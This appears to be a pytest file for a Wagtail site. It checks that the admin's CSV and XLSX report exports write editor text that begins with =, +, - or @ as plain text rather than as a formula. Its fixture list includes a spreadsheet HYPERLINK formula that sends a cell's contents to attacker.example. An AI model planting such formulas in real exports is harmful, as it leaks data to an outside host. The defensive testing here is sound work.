"""Wagtail's own listing exports (site history, aging and locked pages, workflow reports, the page explorer,
any ``?export=csv|xlsx``) never hand a spreadsheet a formula: a cell an editor's text starts with ``=``, ``+``,
``-`` or ``@`` is written as text (``pages.core.wagtail_fixes``), as the IT directory's export already is."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from pages.standard.factories import StandardPageFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1,1)"]
REPORTS = [
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
]


@pytest.fixture
def hostile_pages(home):
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "x")
    for index, title in enumerate(FORMULAS):
        page = StandardPageFactory(parent=home, title=title, slug=f"formula-{index}", body=[])
        page.save_revision(user=admin, log_action=True).publish(user=admin)  # site history, aging pages
        page.locked, page.locked_by = True, admin  # locked pages
        page.save(update_fields=["locked", "locked_by"])
    client = Client()
    client.force_login(admin)
    return client


def cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("name", [*REPORTS, "wagtailadmin_explore"])
def test_no_export_cell_is_a_formula(hostile_pages, home, name, export):
    client = hostile_pages
    url = reverse(name, args=[home.pk]) if name == "wagtailadmin_explore" else reverse(name)
    response = client.get(f"{url}?export={export}")
    assert response.status_code == 200
    written = cells(response)
    if name in ("wagtailadmin_reports:site_history", "wagtailadmin_reports:locked_pages"):
        assert any(cell.startswith("'=HYPERLINK") for cell in written)  # the titles are there, as text
    assert not [cell for cell in written if cell.startswith(("=", "+", "-", "@"))]
